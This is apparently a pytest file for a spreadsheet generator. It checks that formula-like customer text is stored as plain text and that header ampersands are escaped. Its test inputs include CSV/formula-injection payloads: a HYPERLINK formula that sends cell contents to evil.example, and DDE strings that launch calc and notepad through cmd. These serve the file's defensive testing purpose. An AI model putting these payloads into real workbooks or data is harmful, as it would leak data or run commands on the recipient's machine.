"""Customer text that looks like a formula is written as text, never as a formula."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import openpyxl
from openpyxl.utils.escape import unescape

from generator.i18n import Translator
from generator.workbook import render_workbook
from generator.workbook.sheets import Sheet, TERMINAL_COLUMNS

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+41 21 555 12 00",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]
GENERATED = dt.datetime(2026, 11, 20, tzinfo=dt.timezone.utc)


def _hostile_sheet() -> Sheet:
    rows = [(f"t-{i}", "ip", value, value, 1, "srv", "site", None, None, value) for i, value in enumerate(HOSTILE)]
    return Sheet("terminals", TERMINAL_COLUMNS, rows)


def test_formula_like_text_stays_text(small_project, tmp_path):
    data = render_workbook(small_project, Translator("en"), GENERATED, sheets=[_hostile_sheet()])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(data)
    ws = openpyxl.load_workbook(path).worksheets[0]
    for row, value in zip(ws.iter_rows(min_row=2), HOSTILE):
        for cell in (row[2], row[3], row[9]):
            assert cell.data_type == "s", (cell.coordinate, value)
            # openpyxl leaves OOXML's escape of a carriage return (_x000D_) undecoded; Excel, LibreOffice
            # and our importer decode it, so the text itself is unchanged.
            assert unescape(cell.value) == value
            assert cell.value == value or value.startswith("\r")
            assert cell.quotePrefix  # stays text when someone edits the cell in Excel


def test_hostile_customer_data_through_the_model(small_project, tmp_path):
    """Formula-like names reach the sheet unchanged through the real model and sheet builder."""
    users = [u.model_copy(update={"first_name": "=1+1", "department": "@evil"}) if i == 0 else u for i, u in enumerate(small_project.users)]
    project = small_project.replace(users=users)
    path = tmp_path / "w.xlsx"
    path.write_bytes(render_workbook(project, Translator("fr"), GENERATED))
    ws = openpyxl.load_workbook(path)[Translator("fr").t("workbook.sheet.users")]
    header = [c.value for c in ws[1]]
    first = ws[2][header.index(Translator("fr").t("workbook.column.first_name"))]
    dept = ws[2][header.index(Translator("fr").t("workbook.column.department"))]
    assert (first.data_type, first.value, dept.data_type, dept.value) == ("s", "=1+1", "s", "@evil")


def test_header_and_footer_escape_ampersands(small_project, tmp_path):
    info = small_project.pbxdoc
    customer = info.customer.model_copy(update={"name": "Dupont & Fils &P"})
    project = small_project.replace(pbxdoc=info.model_copy(update={"customer": customer}))
    path = tmp_path / "w.xlsx"
    path.write_bytes(render_workbook(project, Translator("fr"), GENERATED))
    ws = openpyxl.load_workbook(path).worksheets[0]
    assert ws.oddHeader.left.text == "&BDupont && Fils &&P&B"  # shown as "Dupont & Fils &P" in bold, not a page number
    assert ws.oddFooter.center.text == "&P / &N"


def test_long_customer_names_keep_the_header_within_excel_limits(small_project, tmp_path):
    info = small_project.pbxdoc
    customer = info.customer.model_copy(update={"name": "Très Longue Raison Sociale & Cie " * 12})
    project = small_project.replace(pbxdoc=info.model_copy(update={"customer": customer}))
    path = tmp_path / "w.xlsx"
    path.write_bytes(render_workbook(project, Translator("fr"), GENERATED))
    ws = openpyxl.load_workbook(path).worksheets[0]
    assert ws.oddHeader.left.text.endswith("…&B") and len(ws.oddHeader.left.text) < 90
